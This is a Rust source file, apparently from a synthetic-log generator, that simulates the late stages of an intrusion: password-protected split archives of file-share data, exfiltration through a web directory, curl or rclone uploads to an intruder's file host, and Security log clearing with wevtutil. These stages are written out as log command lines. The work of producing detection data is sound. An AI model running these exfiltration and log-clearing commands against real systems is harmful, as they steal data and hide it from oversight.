//! Archives, their way out, and traces removed.

use model::{Exposed, ExposureKind};

use super::commands::run;
use super::desk::Desk;
use super::lateral::stolen;
use crate::calendar::{MINUTE, SECOND};
use crate::formats::iis::Request;
use crate::formats::proxy;
use crate::formats::windows::{self, Process, Who};

/// Register copies packed on the file server, in parts and with a password.
pub(super) fn archived(desk: &mut Desk<'_>, count: usize) {
    let world = desk.cx.world;
    let share = world.register_share();
    let cx = desk.cx;
    let folder = desk.temp();
    let rar = desk.dice.once_in(2);
    for number in 0..count {
        desk.wait(60, 300);
        let name = desk.dice.letters(5);
        let town = world.names.towns[number % world.names.towns.len()].replace(' ', "");
        let image = format!("{folder}\\{}.exe", world.intruder.tools[1]);
        let (password, source) = (&world.intruder.password, format!("\"{}\\{town}\\*\"", share.folder));
        let command = if rar {
            format!("{image}  a -v200m -hp{password} -m3 {folder}\\{name}.rar {source}")
        } else {
            format!("{image}  a -v200m -p{password} -mhe {folder}\\{name}.7z {source}")
        };
        desk.hostile(
            "archive-staging",
            "packed register copies with a password, in parts, into an open folder",
        );
        let who = stolen(desk);
        let process = Process {
            image: &image,
            command: &command,
            parent: "C:\\Windows\\System32\\cmd.exe",
            parent_command: "cmd.exe",
            directory: "C:\\Windows\\system32\\",
            who: &who,
            pid: desk.pid(),
            parent_pid: 4 * (900 + number as u64),
        };
        process.sysmon(&cx, desk.plan.out("fs-sysmon"), desk.now, &world.hosts.fs);
        process.security(&cx, desk.plan.out("fs-security"), desk.now + 500);
        for part in 1..=2 {
            let file = if rar { format!("{name}.part{part:02}.rar") } else { format!("{name}.7z.{part:03}") };
            let path = format!("{folder}\\{file}");
            let at = desk.now + part * 40 * SECOND;
            windows::file_created(&cx, desk.plan.out("fs-sysmon"), at, &world.hosts.fs, &image, &path);
            desk.at_risk(Exposed::File, &path, ExposureKind::Taken);
            desk.archives.push(file);
        }
        desk.now += 2 * MINUTE;
    }
}

/// Out of the house: mailboxes and archives fetched from the web directory, or sent through the
/// proxy.
pub(super) fn taken(desk: &mut Desk<'_>, variant: &str, count: usize) {
    match variant {
        "mailbox" => {
            let files: Vec<String> = desk.exports.iter().map(|(stem, _)| stem.clone()).take(count).collect();
            files.iter().for_each(|stem| fetched(desk, stem));
        }
        "web" => {
            let files: Vec<String> =
                desk.archives.iter().map(|file| format!("/aspnet_client/{file}")).take(count).collect();
            files.iter().for_each(|stem| fetched(desk, stem));
        }
        _ => sent(desk, count),
    }
}

fn fetched(desk: &mut Desk<'_>, stem: &str) {
    let world = desk.cx.world;
    desk.wait(60, 500);
    desk.hostile("exfiltration", "an archive was fetched from a web directory");
    let sent = desk.dice.within(60_000_000..209_715_200);
    let request = Request {
        server: &world.hosts.ex.ip,
        method: "GET",
        stem,
        query: "",
        user: "",
        client: &world.intruder.collector,
        agent: &world.intruder.agent,
        status: (200, 0, 0),
        taken: sent / 900,
        sent,
        received: desk.dice.within(300..600),
    };
    request.add(desk.plan.out("ex-iis"), desk.now);
    desk.at_risk(Exposed::File, stem, ExposureKind::Taken);
}

/// Uploads from the mail server to a site for sharing files.
fn sent(desk: &mut Desk<'_>, count: usize) {
    let world = desk.cx.world;
    let host = world.intruder.file_host.clone();
    let curl = desk.dice.once_in(2);
    let (folder, name) = (desk.temp(), &world.intruder.tools[2]);
    let (tool, line) = if curl {
        let tool = "C:\\Windows\\System32\\curl.exe".to_owned();
        (tool, format!("curl  -k -F \"file=@{folder}\\{name}.7z\" https://{host}/upload"))
    } else {
        let tool = format!("{folder}\\{}.exe", world.intruder.tools[4]);
        let line = format!(
            "{tool}  copy {folder} remote:{name} --transfers 4 --no-check-certificate --config {folder}\\r.conf"
        );
        (tool, line)
    };
    run(desk, "exfiltration", "a tool for uploads was run", &[line.replace("  ", " "), tool.clone(), line]);
    let ex = &world.hosts.ex;
    for number in 0..count {
        desk.wait(20, 160);
        desk.hostile("exfiltration", "the mail server sent a large file to a site for sharing files");
        let path = format!("/upload/{:08x}?part={}", desk.dice.word() as u32, number + 1);
        let request = proxy::Request {
            client: &ex.ip,
            user: "-",
            method: if curl { "POST" } else { "PUT" },
            scheme: "https",
            host: &host,
            path: &path,
            status: 201,
            agent: if curl { "curl/7.83.1" } else { "rclone/v1.57.0" },
            kind: "application/json",
            sent: desk.dice.within(200..900),
            received: desk.dice.within(40_000_000..209_715_200),
            taken: desk.dice.within(9000..90_000),
        };
        request.add(desk.plan.out("px-web"), desk.now);
    }
}

/// Logs removed on the mail server, or cleared on both servers.
pub(super) fn cleared(desk: &mut Desk<'_>, variant: &str) {
    if variant == "web" {
        for command in &desk.tools.web_logs {
            run(desk, "log-clearing", "removed logs", command);
        }
        return;
    }
    let world = desk.cx.world;
    let cx = desk.cx;
    let line = "wevtutil  cl Security".to_owned();
    run(
        desk,
        "log-clearing",
        "cleared a log by command",
        &[line.replace("  ", " "), "C:\\Windows\\System32\\wevtutil.exe".to_owned(), line],
    );
    for (host, security, system) in
        [(&world.hosts.ex, "ex-security", "ex-system"), (&world.hosts.fs, "fs-security", "fs-system")]
    {
        desk.wait(1, 60);
        desk.hostile("log-clearing", "a log was cleared");
        let who = if host.name == world.hosts.ex.name { Who::system(world, host) } else { stolen(desk) };
        cx.catalogue
            .event(desk.plan.out(security), desk.now, "security-1102")
            .set("SubjectUserSid", &who.sid)
            .set("SubjectUserName", &who.name)
            .set("SubjectDomainName", &who.domain)
            .set("SubjectLogonId", who.logon)
            .done_by(1044, 5120);
        desk.now += 2 * SECOND;
        cx.catalogue
            .event(desk.plan.out(system), desk.now, "system-104")
            .set("SubjectUserName", &who.name)
            .set("SubjectDomainName", &who.domain)
            .set("Channel", "System")
            .done_by(1044, 5120);
    }
}
